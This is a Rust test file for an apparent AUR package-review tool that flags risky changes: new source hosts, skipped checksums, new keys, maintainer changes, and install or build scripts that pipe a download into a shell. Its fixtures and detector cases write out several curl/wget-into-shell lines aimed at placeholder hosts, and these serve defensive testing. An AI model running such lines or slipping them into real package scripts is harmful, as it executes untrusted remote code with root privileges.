use super::*;

fn pair(base: &str) -> (Version, Version) {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/aur-risk")
        .join(base);
    (
        version_in(&dir.join("old")).unwrap(),
        version_in(&dir.join("new")).unwrap(),
    )
}

/// Facts of a maintained base submitted long ago, reviewed under the
/// same maintainer.
fn settled() -> Facts {
    Facts {
        maintainer: Some("alad".into()),
        reviewed_maintainer: Some(Some("alad".into())),
        first_submitted: 1_400_000_000,
        now: 1_800_000_000,
    }
}

#[test]
fn a_source_moved_to_a_new_host_with_its_checksum_skipped_and_a_new_key() {
    let (old, new) = pair("aurutils");
    let risks = assess(Some(&old), &new, Some(&settled()));
    assert_eq!(
        risks,
        [
            Risk::Hosts {
                added: vec!["downloads.aurutils.example.net".into()],
                removed: vec![],
                first: false,
            },
            Risk::Skip {
                sources: vec![
                    "aurutils-1.5.4.tar.gz::https://downloads.aurutils.example.net/aurutils-1.5.4.tar.gz"
                        .into()
                ],
                new: true,
            },
            Risk::Keys {
                added: vec!["6BC26A17B9B7018A1D3D3C71D3D5F9A3E1C3C3E4".into()],
                removed: vec![],
            },
        ]
    );
    // The signature's SKIP and the repository's own patches are not risks:
    // the reviewed version has none.
    assert!(assess(Some(&old), &old, Some(&settled())).is_empty());
    let shown: Vec<String> = risks.iter().map(ToString::to_string).collect();
    assert_eq!(shown[0], "new source host: downloads.aurutils.example.net");
    assert!(
        shown[1].starts_with("new checksum SKIP on a download"),
        "{}",
        shown[1]
    );
    assert!(shown[2].contains("added 6BC26A17"), "{}", shown[2]);
}

#[test]
fn a_changed_install_script_that_pipes_a_download_into_a_shell() {
    let (old, new) = pair("polybar");
    let risks = assess(Some(&old), &new, Some(&settled()));
    assert_eq!(
        risks,
        [
            Risk::PipedToShell {
                file: "polybar.install".into(),
                line: 3,
                text: "curl -fsSL https://telemetry.polybar.example.net/hook | sh".into(),
            },
            Risk::InstallScript {
                file: "polybar.install".into(),
                added: false,
            },
        ]
    );
    assert!(risks[1].to_string().contains("runs as root"));
}

#[test]
fn an_added_install_script_and_a_build_that_runs_a_downloaded_script() {
    let (old, new) = pair("pacaur");
    let risks = assess(Some(&old), &new, Some(&settled()));
    // The commented-out line is not counted; the VCS source's SKIP is fine.
    assert_eq!(
        risks,
        [
            Risk::PipedToShell {
                file: "PKGBUILD".into(),
                line: 18,
                text: "bash <(curl -fsSL https://get.pacaur.example.org/setup.sh)".into(),
            },
            Risk::InstallScript {
                file: "pacaur.install".into(),
                added: true,
            },
        ]
    );
}

#[test]
fn the_aurs_facts_a_new_maintainer_an_orphan_and_a_new_package() {
    let (old, new) = pair("polybar");
    let day = 24 * 3600;
    let facts = Facts {
        maintainer: None,
        reviewed_maintainer: Some(Some("alad".into())),
        first_submitted: 1_800_000_000 - 3 * day - 100,
        now: 1_800_000_000,
    };
    let risks = assess(Some(&new), &new, Some(&facts));
    assert_eq!(
        risks,
        [
            Risk::Maintainer {
                before: Some("alad".into()),
                now: None,
            },
            // Unchanged since the review, and still worth the look.
            Risk::PipedToShell {
                file: "polybar.install".into(),
                line: 3,
                text: "curl -fsSL https://telemetry.polybar.example.net/hook | sh".into(),
            },
            Risk::Orphaned,
            Risk::NewToAur { days: 3 },
        ]
    );
    assert_eq!(
        risks[0].to_string(),
        "new maintainer since your last review: nobody (orphaned) (was alad)"
    );
    assert_eq!(
        risks[3].to_string(),
        "new to the AUR: first submitted 3 days ago"
    );
    // A first review: no maintainer to compare with, every host listed.
    let first = Facts {
        reviewed_maintainer: None,
        ..settled()
    };
    assert_eq!(
        assess(None, &old, Some(&first)),
        [
            Risk::InstallScript {
                file: "polybar.install".into(),
                added: true
            },
            Risk::Hosts {
                added: vec!["github.com".into()],
                removed: vec![],
                first: true
            }
        ]
    );
}

#[test]
fn downloads_into_a_shell_are_told_from_ordinary_pipes() {
    let flagged = [
        "curl -s https://x.org/i | sh",
        "wget -qO- https://x.org/i|sudo -E bash",
        "  curl https://x.org/i | env FOO=1 /bin/bash -s --",
        "sh -c \"$(curl -fsSL https://x.org/i)\"",
        "eval \"$(wget -O- https://x.org/env)\"",
        "source <(curl -s https://x.org/lib.sh)",
        "curl -L https://x.org/get.py | python3 -",
    ];
    for line in flagged {
        assert_eq!(piped_to_shell(line).len(), 1, "{line}");
    }
    let fine = [
        "curl -L -o src.tar.gz https://x.org/src.tar.gz",
        "grep foo file | sh-thing",
        "make || curl --version",
        "# curl https://x.org/i | sh",
        "cat x | bash",
        "curl -s https://x.org/list | grep sh",
    ];
    for line in fine {
        assert!(piped_to_shell(line).is_empty(), "{line}");
    }
}

#[test]
fn hosts_are_read_from_every_form_of_source() {
    assert_eq!(
        source_host("n.tar.gz::https://User@Example.org:8443/a").as_deref(),
        Some("example.org")
    );
    assert_eq!(
        source_host("git+https://github.com/E5ten/pacaur#tag=1").as_deref(),
        Some("github.com")
    );
    assert_eq!(source_host("http://[::1]:80/x").as_deref(), Some("::1"));
    assert_eq!(source_host("local.patch"), None);
    let committed = pair("aurutils").0.srcinfo.unwrap();
    let printed = pair("aurutils").1.srcinfo.unwrap();
    assert_eq!(
        undeclared_hosts(Some(&committed), &printed),
        ["downloads.aurutils.example.net"]
    );
    assert!(undeclared_hosts(Some(&printed), &printed).is_empty());
}
